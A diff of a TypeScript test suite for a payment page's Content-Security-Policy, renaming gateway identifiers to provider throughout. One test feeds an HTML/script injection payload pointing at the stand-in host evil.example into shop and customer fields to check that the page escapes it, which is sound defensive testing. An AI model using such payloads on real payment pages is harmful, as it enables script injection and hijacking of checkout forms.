@@ -1,10 +1,10 @@
 import { createHash } from 'node:crypto'
 import { database } from '@/lib/db/connection'
 import { paymentPages } from '@/lib/db/schema'
-import { writeLeadOnPage } from '@/lib/gateways/payment/page-document'
-import { razorpayGateway } from '@/lib/gateways/payment/razorpay-gateway'
-import { testGateway } from '@/lib/gateways/payment/test-gateway'
-import type { PageRequest } from '@/lib/gateways/payment/payment-gateway'
+import { writeLeadOnPage } from '@/lib/providers/payment/page'
+import { razorpayProvider } from '@/lib/providers/payment/razorpay'
+import { testProvider } from '@/lib/providers/payment/test'
+import type { PageRequest } from '@/lib/providers/payment/provider'
 import { useShopDatabase } from '@/lib/testing/shop-database'
 import { GET, HEAD } from '@/app/pay/[token]/route'
 import { paymentPagePolicy } from './payment-page-policy'
@@ -40,7 +40,7 @@ const see = (token: string, session: string | null = ASHA, headers: Record<strin
 const leadsTo = (response: Response) => [response.status, response.headers.get('location')]
 
 const pageRequest: PageRequest = {
-  gatewayOrderId: 'order_1',
+  providerOrderId: 'order_1',
   amountPaise: 49_900,
   orderCode: '20261121-7K3M9XQ2',
   shopName: 'Mewa House',
@@ -162,7 +162,7 @@ describe('the policy of the gateway’s page', () => {
     )
 
   it('CHK-07 lets Razorpay’s window work, with the hosts that Razorpay names and no other', async () => {
-    const html = razorpayGateway(keys).writePage(pageRequest)
+    const html = razorpayProvider(keys).writePage(pageRequest)
     const policy = await policyOf(html)
     expect(policy.get('default-src')).toEqual(["'none'"])
     expect(policy.get('script-src')).toEqual([...hashesOf(html), 'https://checkout.razorpay.com', 'https://cdn.razorpay.com'])
@@ -184,12 +184,12 @@ describe('the policy of the gateway’s page', () => {
   })
 
   it('CHK-07 is the same script for every order: its hash does not depend on who pays for what', () => {
-    const one = razorpayGateway(keys).writePage(pageRequest)
-    const other = razorpayGateway({ ...keys, keyId: 'other' }).writePage({
+    const one = razorpayProvider(keys).writePage(pageRequest)
+    const other = razorpayProvider({ ...keys, keyId: 'other' }).writePage({
       ...pageRequest,
       shopName: 'Other',
       amountPaise: 1,
-      gatewayOrderId: 'order_2',
+      providerOrderId: 'order_2',
     })
     expect(hashesOf(one)).toEqual(hashesOf(other))
   })
@@ -200,7 +200,7 @@ describe('the policy of the gateway’s page', () => {
   })
 
   it('CHK-07 lets a test payment come back, and runs nothing but what asks for the page again', async () => {
-    const html = testGateway().writePage(pageRequest)
+    const html = testProvider().writePage(pageRequest)
     const policy = await policyOf(html)
     expect(hashesOf(html)).toHaveLength(1)
     expect(policy.get('script-src')).toEqual(hashesOf(html))
@@ -222,7 +222,7 @@ describe('the policy of the gateway’s page', () => {
 
   it('CHK-07 has nothing in it that a shopper’s words could put there', async () => {
     const shopName = `<script>evil()</script><form action="https://evil.example/"><div id="checkout" data-src="https://evil.example/x.js"`
-    const html = razorpayGateway(keys).writePage({
+    const html = razorpayProvider(keys).writePage({
       ...pageRequest,
       shopName,
       customer: { name: shopName, email: shopName, phone: shopName },
